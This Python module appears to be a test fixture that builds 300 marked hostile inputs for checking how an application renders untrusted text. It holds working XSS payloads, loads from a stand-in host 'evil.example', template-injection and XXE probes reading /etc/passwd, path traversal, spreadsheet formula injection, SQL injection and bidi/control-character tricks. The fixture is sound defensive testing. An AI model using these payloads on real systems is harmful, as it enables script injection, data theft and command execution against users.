"""Three hundred texts that strangers may send. Each begins with a mark, h000 to h299, to be found again by.

What gets to run says so: by a variable of the window whose name begins with `hostile`, a dialog, or a request.
"""

import re

COUNT = 300
MARK = re.compile(r"h[0-2]\d\d(?!\d)")

_RUN = "window.hostile{n}=1;alert({n})"
_FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>RUN</script>",
        "<ScRiPt\n>RUN</sCrIpT >",
        "<script/x>RUN</script>",
        "</script><script>RUN</script>",
        "<script src=//evil.example/N.js></script>",
        "<script src='https://evil.example/N.js' async>",
        "<script type=module>RUN</script>",
        "<scr<script>ipt>RUN</scr</script>ipt>",
        "<\x00script>RUN</script>",
        "<noscript><p title='</noscript><script>RUN</script>'>",
    ),
    "handler": (
        "<img src=x onerror=RUN>",
        '<img src="x"/onerror="RUN">',
        "<body onload=RUN>",
        "<details open ontoggle=RUN>",
        "<video><source onerror=RUN></video>",
        "<input autofocus onfocus=RUN>",
        "<style onload=RUN></style>",
        "<iframe srcdoc='<script>parent.RUN</script>'>",
        "<marquee onstart=RUN>x</marquee>",
        "<p onmouseover=RUN style='position:fixed;inset:0'>x</p>",
        '<a href="https://example.org/" onclick="RUN">a</a>',
    ),
    "attribute": (
        '" onmouseover="RUN" x="',
        "' onmouseover='RUN' x='",
        '" autofocus onfocus=RUN tabindex=0 "',
        '"><script>RUN</script><x y="',
        "'><img src=x onerror=RUN>",
        "` onmouseover=RUN `",
        '" style="position:fixed;inset:0;background:red" "',
        ' class=x id=x aria-label="y role="z',
    ),
    "address": (
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        "java\tscript:RUN",
        "\x01javascript:RUN",
        "javascript://example.org/%0aRUN",
        "data:text/html,<script>RUN</script>",
        "vbscript:RUN",
        "//evil.example/N",
        "https://evil.example/N\"onclick='RUN'",
        "file:///etc/passwd",
        "blob:https://evil.example/N",
    ),
    "style": (
        "</style><style>*{background:url(//evil.example/N)}</style>",
        "</style><script>RUN</script>",
        "<style>@import '//evil.example/N.css';</style>",
        "<link rel=stylesheet href=//evil.example/N.css>",
        "}*{display:none}/*",
        '";background:url(//evil.example/N);"',
        "<p style='background:url(//evil.example/N)'>x</p>",
        "expression(RUN)",
        "--x:url(//evil.example/N)",
        "<style>body{width:9999px}</style>",
    ),
    "closer": (
        "</title></head></body></html>",
        "</main></section></article></details></figure></table></div></div></div>",
        "</textarea></template></noscript></xmp></select>",
        "</td></tr></tbody></table><h1>x</h1>",
        "--><script>RUN</script><!--",
        "]]><script>RUN</script>",
        "</text></svg><script>RUN</script>",
        "</a></bdi></blockquote></figure><script>RUN</script>",
        "<plaintext>",
        "<!--",
    ),
    "island": (
        "<svg onload=RUN>",
        "<svg><script>RUN</script></svg>",
        "<svg><animate onbegin=RUN attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:RUN'><text y=9>x</text></a></svg>",
        "<svg><use href='//evil.example/N.svg#x'/></svg>",
        "<svg><image href='//evil.example/N.png'/></svg>",
        "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
        "<svg><desc></title></desc><style><img src=x onerror=RUN></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
        "<math href='javascript:RUN'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    ),
    "loading": (
        "<img src=//evil.example/N.png>",
        "<iframe src=//evil.example/N></iframe>",
        "<object data=//evil.example/N></object>",
        "<embed src=//evil.example/N>",
        "<meta http-equiv=refresh content='0;url=//evil.example/N'>",
        "<base href=//evil.example/>",
        "<form action=//evil.example/N><button autofocus>x</button></form>",
        "<audio autoplay src=//evil.example/N></audio>",
        "<link rel=prefetch href=//evil.example/N>",
    ),
    "direction": (
        "\u202egnp.exe\u202c",
        "\u202e\u202d\u202e never ended",
        "\u2066\u2067\u2068 isolates",
        "\u200f\u061c\u200e marks",
        "עברית ‏English עברית",
        "مرحبا \u202e بالعالم <b>",
    ),
    "long": (
        "w" * 10_000,
        "W" * 10_000,
        "wide\u00a0" * 2_000,
        "漢字" * 5_000,
        "a" + "\u0301" * 5_000,
        "https://example.org/" + "x" * 10_000,
        "-" * 10_000,
        "\u2060".join("word" * 2_500),
        "😀" * 5_000,
        "#" + "tag" * 3_000,
    ),
    "emoji": (
        "👩🏽\u200d🚀🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
        "😀\ufe0f\u20e3\u200d\u200d",
        "🇪🇸🇪🇸🇪",
        "\U0001f9d1\u200d\U0001f91d\u200d\U0001f9d1 \ufeff",
    ),
    "control": (
        "a\x00b",
        "\x00\x00<b>\x00",
        "a\x07\x08\x0b\x0c\x1b[31mred\x1b[0m",
        "\x7f\x80\x85\x9b31m",
        "\ufffe\uffff\ufdd0",
        "line\rfeed\nand\ttab\u2028\u2029",
        "\U000e0001\U0010ffff",
        "\u00ad\u200b\u200c\u2063 nothing to see",
    ),
    "template": (
        "{{ 7 * 7 }}{% raw %}",
        "{{ config }}{{ ''.__class__.__mro__ }}",
        "{% include '/etc/passwd' %}",
        "{# #}{{",
        "${7*7}#{7*7}<%= 7*7 %>",
        "{{constructor.constructor('RUN')()}}",
        "datum.x ? 'a' : toString.constructor('RUN')()",
        "%s%n%(x)s {0.__class__} $HOME `id`",
    ),
    "entity": (
        "&lt;script&gt;RUN&lt;/script&gt;",
        "&#60;script&#62;RUN&#60;/script&#62;",
        "&amp;lt;b&amp;gt; &nbsp &copy",
        "&quot; onmouseover=RUN &quot;",
        "&#0;&#x110000;&#xD800;&bogus;",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    ),
    "format": (
        "=cmd|' /C calc'!A1",
        "'; DROP TABLE runs; --",
        "../../../../etc/passwd",
        '{"a": 1}\\u003cscript\\u003e',
        "\\\"\\'\\\\<b>",
        "[a](javascript:RUN) ![b](//evil.example/N)",
        "1e999 NaN -0 3.14159265358979",
        "con.txt\\aux\\nul:",
    ),
}


def _texts() -> list[str]:
    """A text of each family in turn: each as it is, and when a family has no more of them, within others."""
    around = ("{}", "so happy {} and sad", '"{}"', "<b>{}", "x\n{} {}", "{}</p>")
    families = list(_FAMILIES.values())
    found = []
    for number in range(COUNT):
        turn, family = divmod(number, len(families))
        texts = families[family]
        made = around[turn // len(texts)].replace("{}", texts[turn % len(texts)])
        made = made.replace("RUN", _RUN.format(n=number)).replace("example/N", f"example/{number}")
        found.append(f"h{number:03d} {made}")
    return found


HOSTILE = _texts()
BARE = [text[5:] for text in HOSTILE]
assert len(set(BARE)) == COUNT


def marks_in(text: str) -> set[str]:
    """The marks that stand in a text."""
    return set(MARK.findall(text))
